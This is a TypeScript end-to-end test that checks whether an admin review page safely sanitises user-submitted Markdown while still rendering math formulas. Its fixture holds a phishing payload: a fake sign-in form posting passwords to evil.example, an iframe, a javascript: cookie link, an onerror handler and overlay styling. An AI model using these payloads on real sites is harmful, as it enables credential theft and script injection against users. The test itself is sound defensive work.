import type { Page } from 'playwright-core';
import { expect, inject, it } from 'vitest';
import { LOCALE_STORAGE_KEY } from '@mathbridge/contracts/locales';
import { describeE2E, newPage, useBrowser } from './browser.ts';
import { call, certified, shoot, shotsDir, demandBody } from './cooperation-api.ts';
import { signInThroughUi } from './session.ts';

const SHOTS = shotsDir('markdown-review');
const poll = <T>(read: () => T | Promise<T>) => expect.poll(read, { timeout: 15_000 });

/** A demand whose Markdown draws a full-screen 'session expired, sign in again' page, and more. */
const FAKE_SIGN_IN = [
  '## 排产问题',
  [
    '<div class="ant-modal-wrap" style="position:fixed;inset:0;z-index:2147483647;background:#fff;padding:20vh 30vw">',
    '<h2>会话已过期，请重新登录</h2>',
    '<form action="https://evil.example/steal" method="post">',
    '<input name="phone" placeholder="手机号"><input type="password" name="password" placeholder="密码">',
    '<button type="submit">登录</button>',
    '</form>',
    '</div>',
  ].join('\n'),
  '<style>.ant-layout{display:none !important}</style>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '[继续](javascript:alert(document.cookie)) <img src="x" onerror="alert(1)">',
  '<div class="ant-modal-mask" style="position:absolute;top:0;left:0;width:100vw;height:100vh">遮罩</div>',
  '目标函数 $x^2$，约束：',
  '$$\\int_0^1 f(x)\\,dx = 1$$',
].join('\n\n');

const reviewDemand = (title: string) =>
  demandBody(title, {
    summary: '审核页的 Markdown 安全检查',
    problem: FAKE_SIGN_IN,
    expected_outcome: '可部署的算法，误差 $\\varepsilon < 10^{-3}$',
    commit: 1,
  });

/** What the rendered Markdown of the page holds, read by the browser. */
const inspect = (page: Page) =>
  page.evaluate(() => {
    const boxes = Array.from(document.querySelectorAll('.mb-markdown'));
    const all = boxes.flatMap((box) => Array.from(box.querySelectorAll('*')));
    const user = all.filter((el) => !el.closest('.katex, .katex-display'));
    const positioned = Array.from(document.querySelectorAll('body *')).filter((el) =>
      ['fixed', 'absolute'].includes(getComputedStyle(el).position),
    );
    return {
      boxes: boxes.length,
      contained: boxes.every((box) => getComputedStyle(box).contain.includes('paint')),
      forbidden: all.filter((el) => /^(form|input|button|style|iframe|script|svg|textarea)$/i.test(el.tagName)).length,
      styledUserElements: user.filter((el) => el.hasAttribute('style')).length,
      classedUserElements: user.filter((el) => el.hasAttribute('class')).length,
      javascriptLinks: all.filter((el) => (el.getAttribute('href') ?? '').toLowerCase().startsWith('javascript'))
        .length,
      handlers: all.filter((el) => el.getAttributeNames().some((name: string) => name.startsWith('on'))).length,
      // Anywhere on the page: nothing fixed or absolute that holds the user's text.
      positionedUserText: positioned.filter((el) => /会话已过期|遮罩/.test(el.textContent ?? '')).length,
      passwordInputs: document.querySelectorAll('input[type=password]').length,
      modalWraps: document.querySelectorAll('.ant-modal-wrap, .ant-modal-mask').length,
      katex: boxes.reduce((n, box) => n + box.querySelectorAll('.katex').length, 0),
      katexDisplay: boxes.reduce((n, box) => n + box.querySelectorAll('.katex-display').length, 0),
      superscript: all.some((el) => el.tagName.toLowerCase() === 'msup'),
      integral: all.some((el) => el.tagName.toLowerCase() === 'mo' && el.textContent === '∫'),
      text: boxes.map((box) => box.textContent ?? '').join('\n'),
    };
  });

describeE2E('an admin reviews a demand whose Markdown draws a fake sign-in page', () => {
  const browser = useBrowser();

  it('the review page shows the text and the formulas, and no form, input, style or overlay, in three locales', async () => {
    const admin = await call<{ token: { access_token: string } }>(null, 'POST', 'user/login', {
      phone_details: inject('adminPhone'),
      password: inject('adminPassword'),
    });
    const suffix = String(Date.now()).slice(-5);
    const enterprise = await certified(admin.token.access_token, 'Enterprise', `审阅安全${suffix}有限公司`);
    const saved = await call<{ demand: { id: number } }>(
      enterprise.token,
      'POST',
      'demand/save',
      reviewDemand(`伪装登录${suffix.slice(-3)}`),
    );
    const demandId = saved.demand.id;

    const { page, context } = await newPage(browser());
    const errors: string[] = [];
    const dialogs: string[] = [];
    page.on('pageerror', (error) => errors.push(String(error)));
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    await signInThroughUi(page, inject('adminPhone'), inject('adminPassword'));

    for (const locale of ['zh-CN', 'zh-HK', 'en-US']) {
      await page.evaluate(({ key, value }) => localStorage.setItem(key, value), {
        key: LOCALE_STORAGE_KEY,
        value: locale,
      });
      await page.goto(`/manage/demandManage/detail/${demandId}`);
      await poll(() => page.locator('.mb-markdown .katex-display').count()).toBeGreaterThan(0);
      const seen = await inspect(page);
      expect(seen).toMatchObject({
        contained: true,
        forbidden: 0,
        styledUserElements: 0,
        classedUserElements: 0,
        javascriptLinks: 0,
        handlers: 0,
        positionedUserText: 0,
        passwordInputs: 0,
        modalWraps: 0,
        superscript: true,
        integral: true,
      });
      expect(seen.boxes).toBeGreaterThanOrEqual(2);
      // $x^2$, $$\int…$$ and the expected outcome's $\varepsilon…$.
      expect(seen.katex).toBe(3);
      expect(seen.katexDisplay).toBe(1);
      // What the enterprise wrote is still there to read, as text.
      expect(seen.text).toContain('会话已过期，请重新登录');

      // Nothing lies over the review buttons: the point at the middle of 'approve' is the button.
      const approve = page.getByRole('button', { name: locale === 'en-US' ? /^Approve$/ : /^通\s?[过過]$/ });
      await poll(() => approve.count()).toBe(1);
      const box = await approve.boundingBox();
      if (!box) throw new Error('approve button not laid out');
      const onTop = await page.evaluate(
        ({ x, y }) => document.elementFromPoint(x, y)?.closest('button')?.textContent ?? null,
        { x: box.x + box.width / 2, y: box.y + box.height / 2 },
      );
      expect(onTop).not.toBeNull();
      await shoot(page, SHOTS, `review-${locale}`);
    }

    expect(requests.filter((url) => url.includes('evil.example'))).toEqual([]);
    expect(dialogs).toEqual([]);
    expect(errors).toEqual([]);
    await context.close();
  });
});
